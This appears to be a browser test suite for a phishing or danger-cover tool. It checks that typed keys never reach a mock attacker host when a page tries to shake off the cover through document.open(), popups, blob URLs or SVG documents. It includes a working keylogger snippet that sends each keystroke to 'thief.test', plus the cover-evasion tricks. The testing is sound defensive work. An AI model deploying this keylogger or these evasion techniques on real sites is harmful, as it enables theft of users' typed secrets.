// Documents in which the cover is lost or cannot be drawn: after `document.open()`, which removes every
// listener from the window, and in documents that are not HTML.
import { after, before, describe, test } from "./trial.mjs";
import assert from "node:assert/strict";
import { startLab } from "./lab.mjs";
import { attacker } from "./attacker.mjs";
import { KINDS, go, isAtGate, launch, sleep, until, where } from "./browser.mjs";

const THIEF = "thief.test";
const HEAD = `<!doctype html><title>Home</title><link rel=icon href="data:,"><body style="margin:0">`;
const FIELD = "position:fixed;left:0;top:0;width:300px;height:80px";

for (const kind of KINDS) {
    describe(`documents that shake off their cover in ${kind}`, () => {
        let lab, thief, own;

        before(async () => {
            lab = await startLab();
            thief = await attacker(lab, { hosts: [THIEF], names: [THIEF] });
            own = await launch(kind, lab, thief.launchOptions(kind));
            const report = thief.https.url(THIEF, "/report");
            thief.on("/report", () => "");
            // Whatever is typed anywhere in it is told.
            const spy = `addEventListener("keydown",(event)=>{new Image().src="${report}?"+event.key},true);`;
            const form = `${HEAD}<input style="${FIELD}"><script>${spy}document.querySelector("input").focus()<\/script>`;
            const text = JSON.stringify(form).replaceAll("</", "<\\/");
            const opened = `const open_=(to)=>{to.document.open();to.document.write(${text});to.document.close()};`;
            const page = (code) => `${HEAD}<button style="${FIELD};height:200px">x</button><script>${opened}document.querySelector("button").onclick=()=>{${code}}<\/script>`;
            const picture = `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400"><script>${spy.replaceAll('"', "'").replaceAll(">", "&gt;")}<\/script>` +
                `<foreignObject width="600" height="400"><input xmlns="http://www.w3.org/1999/xhtml" style="${FIELD}"/></foreignObject></svg>`;
            const blob = `open(URL.createObjectURL(new Blob([${JSON.stringify(picture).replaceAll("</", "<\\/")}],{type:"image/svg+xml"})))`;
            for (const [name, body] of Object.entries({
                "/once": page(`open_(open("about:blank"))`),
                "/loop": page(`const to=open("about:blank");to.setInterval(()=>open_(to),40)`),
                "/itself": `${HEAD}<script>${opened}onload=()=>setInterval(()=>open_(window),40)<\/script>`,
                "/blob": page(blob),
                "/": `${HEAD}home`,
            })) thief.on(name, () => body);
            thief.on("/picture", () => ({ type: "image/svg+xml", body: picture }));
            await own.guard();
            await lab.command({ do: "upstream", address: `127.0.0.1:${thief.http.port}` });
        });
        after(async () => {
            await own.close();
            lab.stop();
            thief.stop();
        });

        const keys = () => thief.log.filter(({ url }) => url.startsWith("/report?")).map(({ url }) => url.slice(8)).join("");
        const type = async (page, text) => {
            await page.bringToFront().catch(() => {});
            await page.mouse.click(60, 40).catch(() => {});
            await page.keyboard.type(text).catch(() => {});
            await sleep(300);
        };

        /** The tab that the page at `path` opens by a click, or its own; something typed in it has been told. */
        async function opened(path, hasPopup) {
            await lab.present("good");
            await own.ask({ ask: "check-again", address: lab.address });
            const page = await own.browser.newPage();
            await go(page, `${lab.home}${path}`, { within: 4000 });
            let target = page;
            if (hasPopup) {
                await page.bringToFront();
                await sleep(700);
                const before = new Set(await own.browser.pages());
                await page.mouse.click(60, 120);
                target = await until(async () => (await own.browser.pages()).find((one) => !before.has(one)), { why: "the popup" });
            }
            thief.log.length = 0;
            await until(async () => {
                await type(target, "x");
                return keys();
            }, { why: `what is typed at ${path} is told` });
            return { target, close: async () => Promise.all((target === page ? [page] : [page, target]).map((one) => one.close().catch(() => {}))) };
        }

        const WAYS = [["/once", true], ["/loop", true], ["/itself", false], ["/blob", true], ["/picture", false]];
        for (const [path, hasPopup] of WAYS) {
            test(`${path}: at Danger it goes to the gate, and no key reaches it`, async () => {
                const { target, close } = await opened(path, hasPopup);
                await lab.present("A5");
                assert.equal((await own.ask({ ask: "check-again", address: lab.address })).light, "danger");
                await until(() => isAtGate(target), { why: "the gate" });
                thief.log.length = 0;
                await type(target, "secret");
                await sleep(2500);
                await type(target, "secret");
                assert.equal(keys(), "");
                assert.ok(await isAtGate(target), await where(target));
                await close();
            });

            test(`${path}: under the veil no key reaches it`, async () => {
                const { target, close } = await opened(path, hasPopup);
                await lab.command({ do: "hang" });
                await target.evaluate(() => void window.dispatchEvent(new Event("online")));
                await until(async () => (await own.status()).light === "unchecked", { why: "a check" });
                await sleep(1500);
                thief.log.length = 0;
                await type(target, "secret");
                await sleep(1000);
                await type(target, "secret");
                assert.equal(keys(), "");
                await lab.command({ do: "unhang" });
                await close();
            });
        }
    });
}
